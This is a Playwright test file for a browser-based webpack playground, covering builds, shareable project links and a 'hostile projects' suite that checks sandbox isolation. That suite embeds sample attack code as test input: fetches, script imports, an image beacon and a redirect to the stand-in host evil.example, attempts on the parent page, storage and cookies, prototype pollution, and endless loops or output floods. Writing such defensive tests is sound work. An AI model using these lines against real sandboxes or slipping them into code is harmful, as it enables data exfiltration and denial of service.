import type { Page } from "@playwright/test";
import { frameUrl } from "#model/playground-files.ts";
import { hashOf } from "../../playground/app/share.ts";
import { expect, test } from "../fixtures.ts";
import { like, strings } from "../strings.ts";

const { playground } = strings;

const URL = "/playground/";

/** The status after a build without problems. */
const BUILT = like((value) => playground.built(value, value));

function either(...texts: readonly string[]): RegExp {
  return new RegExp(texts.map((text) => like(() => text).source).join("|"));
}

/** Returns a link's project with everything that its build needs. */
function linkTo(files: Record<string, string>): string {
  return `${URL}${hashOf({ "package.json": "{}", ...files })}`;
}

async function openAndBuild(page: Page, files: Record<string, string>): Promise<void> {
  await page.goto(linkTo(files));
  await page.getByRole("button", { name: playground.build }).click();
}

async function run(page: Page): Promise<void> {
  await page.getByRole("button", { name: playground.views.run, exact: true }).click();
  await page.getByRole("button", { name: playground.preview.run }).click();
}

/** Records requests that reach another site; requests blocked by the policy don't. */
async function noteEvil(page: Page): Promise<string[]> {
  const reached: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "reached" });
  });
  return reached;
}

const status = (page: Page) => page.getByRole("main").getByRole("status").first();
const terminal = (page: Page) => page.getByRole("group", { name: playground.views.terminal });
const logs = (page: Page) => page.getByRole("list", { name: playground.preview.console });

/** Playwright's fill() would have the browser insert styled text, which the security policy refuses. */
async function replaceText(page: Page, file: string, text: string): Promise<void> {
  await page.getByRole("textbox", { name: playground.files.text(file) }).focus();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(text);
}

for (const width of [1440, 390])
  test(`builds, breaks and fixes a project by keyboard, ${width} px wide`, async ({ page }) => {
    await page.setViewportSize({ width, height: 900 });
    await page.goto(URL);
    await expect(status(page)).toHaveText(BUILT, { timeout: 30_000 });
    await expect(terminal(page)).toContainText("compiled successfully");
    const editor = page.getByRole("textbox", { name: playground.files.text("src/index.js") });
    await editor.focus();
    await page.keyboard.press("ControlOrMeta+Home");
    await page.keyboard.type("const = ;\n");
    await expect(terminal(page)).toContainText("Module parse failed");
    await expect(status(page)).toContainText(playground.problems(1, 0));
    await page.keyboard.press("ControlOrMeta+Home");
    await page.keyboard.press("Shift+End");
    await page.keyboard.press("Delete");
    // At once: half of it may build as well.
    await page.keyboard.insertText('console.log("repaired");');
    await expect(terminal(page)).toContainText("compiled successfully");
    await run(page);
    await expect(logs(page)).toContainText("repaired");
    const needed = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(needed, "nothing is wider than the screen").toBeLessThanOrEqual(width);
  });

test("reports webpack's emitted files, modules and unused exports", async ({ page }) => {
  await page.goto(URL);
  await expect(status(page)).toHaveText(BUILT, { timeout: 30_000 });
  await page.getByRole("button", { name: playground.views.files, exact: true }).click();
  await page.getByRole("button", { name: "main.js" }).click();
  await expect(page.getByRole("group", { name: playground.files.text("main.js") })).toContainText("A cup of tea");
  await page.getByRole("button", { name: playground.views.modules, exact: true }).click();
  await expect(page.getByRole("row", { name: /\.\/src\/price\.js/ })).toContainText("refund");
});

test("the URL holds the project, and a linked project isn't built before a click", async ({
  page,
  browser,
  baseURL,
}) => {
  await page.goto(URL);
  await expect(status(page)).toHaveText(BUILT, { timeout: 30_000 });
  await page.getByRole("textbox", { name: playground.files.newFile }).fill("src/added.js");
  await page.getByRole("button", { name: playground.files.add, exact: true }).click();
  await page.getByRole("textbox", { name: playground.files.text("src/added.js") }).focus();
  await page.keyboard.type("export const added = 1;");
  await expect(page).toHaveURL(/#project=/);
  await expect(page.getByRole("complementary", { name: strings.missingSection.name })).toHaveCount(0);
  const other = await browser.newPage({ ...(baseURL !== undefined && { baseURL }), serviceWorkers: "block" });
  await expect
    .poll(async () => {
      await other.goto("about:blank");
      await other.goto(page.url());
      await other.getByRole("button", { name: "src/added.js", exact: true }).click();
      return other.getByRole("textbox", { name: playground.files.text("src/added.js") }).textContent();
    })
    .toContain("export const added = 1;");
  await expect(status(other)).toHaveText(like(playground.ready), { timeout: 30_000 });
  await expect(terminal(other)).toHaveCount(0);
  await other.getByRole("button", { name: playground.build }).click();
  await expect(terminal(other)).toContainText("compiled successfully");
  await other.close();
});

test("other pages load no playground files", async ({ page }) => {
  const loaded: string[] = [];
  page.on("request", (request) => loaded.push(request.url()));
  await page.goto("/concepts/");
  await page.waitForLoadState("networkidle");
  expect(loaded.filter((url) => url.includes("/playground-files/"))).toEqual([]);
});

test.describe("hostile projects", () => {
  const CONFIGURATIONS = {
    "an endless loop": "for (;;) {}",
    "a catastrophic regular expression": "/^(a+)+$/.test('a'.repeat(60) + '!'); module.exports = {};",
  };
  for (const [name, code] of Object.entries(CONFIGURATIONS))
    test(`stops ${name} in the configuration and keeps the files`, async ({ page }) => {
      await openAndBuild(page, { "webpack.config.js": code, "src/index.js": "console.log(1);" });
      await expect(status(page)).toHaveText(playground.building, { timeout: 30_000 });
      // The page stays responsive meanwhile.
      await page.getByRole("button", { name: "webpack.config.js" }).click();
      await expect(page.getByRole("group", { name: playground.error })).toContainText(playground.stopped("10"), {
        timeout: 30_000,
      });
      await replaceText(page, "webpack.config.js", "module.exports = {};");
      await expect(terminal(page)).toContainText("compiled", { timeout: 30_000 });
    });

  test("configurations and loaders can't access the network, the page or storage", async ({
    page,
    consoleProblems,
  }) => {
    const reached = await noteEvil(page);
    await openAndBuild(page, {
      "webpack.config.js": `
const answers = [];
const attempt = async (name, action) => answers.push(name + ": " + (await Promise.resolve().then(action).then(() => "REACHED", () => "refused")));
module.exports = async () => {
  await attempt("fetch", () => fetch("https://evil.example/"));
  await attempt("own site", () => fetch("/content.json"));
  await attempt("script", () => importScripts("https://evil.example/a.js"));
  await attempt("storage", () => new Promise((resolve, reject) => Object.assign(indexedDB.open("a"), { onsuccess: resolve, onerror: reject })));
  await attempt("parent", () => parent.document.title);
  Object.prototype.polluted = "yes";
  delete Object.prototype.polluted;
  throw new Error(answers.join(", "));
};`,
      "src/index.js": "",
    });
    const error = page.getByRole("group", { name: playground.error });
    await expect(error).toContainText(
      "fetch: refused, own site: refused, script: refused, storage: refused, parent: refused",
      {
        timeout: 30_000,
      },
    );
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    consoleProblems.splice(0);
  });

  test("bundles can't access the network, the page or storage, or log endlessly", async ({ page, consoleProblems }) => {
    const reached = await noteEvil(page);
    await openAndBuild(page, {
      "webpack.config.js": 'module.exports = { mode: "development", devtool: false };',
      "src/index.js": `
const attempt = async (name, action) => console.log(name + ": " + (await Promise.resolve().then(action).then(() => "REACHED", () => "refused")));
attempt("fetch", () => fetch("https://evil.example/"));
attempt("parent", () => parent.document.title);
attempt("storage", () => localStorage.length);
attempt("cookie", () => { document.cookie = "a=b"; });
new Image().src = "https://evil.example/a.png";
Object.prototype.polluted = "yes";
setTimeout(() => { for (let line = 0; line < 10000; line++) console.log("x".repeat(1000)); }, 500);
setTimeout(() => { location.href = "https://evil.example/gone"; }, 1000);`,
    });
    await expect(terminal(page)).toContainText("compiled", { timeout: 30_000 });
    await run(page);
    for (const name of ["fetch", "parent", "storage", "cookie"])
      await expect(logs(page)).toContainText(`${name}: refused`);
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    expect(await logs(page).getByRole("listitem").count()).toBeLessThanOrEqual(500);
    await expect(page.getByRole("heading", { level: 1, name: "Playground" })).toBeVisible();
    consoleProblems.splice(0);
  });

  test("huge output doesn't freeze the page", async ({ page }) => {
    await openAndBuild(page, {
      "webpack.config.js": `module.exports = { mode: "development", devtool: false, performance: false, plugins: [{ apply(compiler) {
  compiler.hooks.thisCompilation.tap("huge", (compilation) => {
    compilation.hooks.processAssets.tap("huge", () => compilation.emitAsset("huge.txt", new compiler.webpack.sources.RawSource("x".repeat(20_000_000))));
  });
} }] };`,
      "src/index.js": "",
    });
    // A slow machine reaches the time limit, but either way the page responds and builds again.
    await expect(page.getByRole("group", { name: either(playground.views.terminal, playground.error) })).toBeVisible({
      timeout: 30_000,
    });
    await page.getByRole("button", { name: "webpack.config.js" }).click();
    await replaceText(page, "webpack.config.js", "module.exports = {};");
    await expect(terminal(page)).not.toContainText("huge.txt", { timeout: 30_000 });
    await expect(terminal(page)).toContainText("compiled");
  });

  test("a frame that shares the site's origin, where a host sends no headers, runs nothing", async ({
    page,
    baseURL,
  }) => {
    await page.route(`**${frameUrl("preview")}`, async (route) => {
      const response = await route.fetch();
      const { "content-security-policy": _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto("/concepts/");
    const found = await page.evaluate(async (url) => {
      const messages: string[] = [];
      addEventListener("message", ({ data }) => messages.push(data.type));
      const frame = Object.assign(document.createElement("iframe"), { src: url });
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await loaded;
      const main = new TextEncoder().encode("parent.document.title = 'reached';");
      frame.contentWindow?.postMessage({ type: "run", assets: { "main.js": main }, entries: [["main.js"]] }, "*");
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return { messages, title: document.title, origin: frame.contentWindow?.origin };
    }, frameUrl("preview"));
    expect(found.origin, "the attribute is missing on purpose").toBe(baseURL);
    expect(found.messages).toEqual([]);
    expect(found.title).not.toBe("reached");
  });

  test("reports a damaged link, and serves the compiler frame with a sandbox policy", async ({ page }) => {
    await page.goto(`${URL}#project=damaged`);
    await expect(page.getByRole("alert").filter({ hasText: playground.notices.damaged })).toBeVisible();
    const answer = await page.request.get("/playground-files/compiler/");
    expect(answer.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
  });
});
